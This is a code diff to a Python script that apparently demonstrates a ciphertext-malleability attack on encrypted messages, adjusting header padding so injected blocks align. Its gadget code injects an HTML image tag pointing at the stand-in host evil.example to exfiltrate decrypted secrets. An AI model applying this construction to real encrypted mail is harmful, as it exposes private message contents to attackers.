@@ -31,7 +31,7 @@ TRUTH = b"Content-Type: text/plain\r\n\r\nThe price is 100 EUR.\r\n"
 LIE = b"Content-Type: text/plain\r\n\r\nPay 900 EUR to Eve.\r\n"
 # Headers as an attacker knows them, so that the body begins with a cipher block.
 CONFIDENTIAL = (
-    b"Content-Type: text/html; charset=utf-8\r\nX: 1234\r\n\r\n" + b"<p>" + (SECRET + b" ") * 60
+    b"Content-Type: text/html; charset=utf-8\r\nX: 1\r\n\r\n" + b"<p>" + (SECRET + b" ") * 60
 )
 _BLOCK = 16
 
@@ -176,7 +176,8 @@ def with_gadgets(octets: bytes) -> bytes:
         _xor(enveloped.nonce, known, text) + first
         for text in [b"<img src='http:/", b"/evil.example/?d"] * 12
     )
-    head = CONFIDENTIAL.index(b"<p>") // _BLOCK * _BLOCK
+    head = CONFIDENTIAL.index(b"<p>")
+    assert head % _BLOCK == 0
     changed = blocks[:head] + gadgets + blocks[head + len(gadgets) :]  # no length changes
     assert len(changed) == len(blocks)
     assert octets.count(blocks) == 1
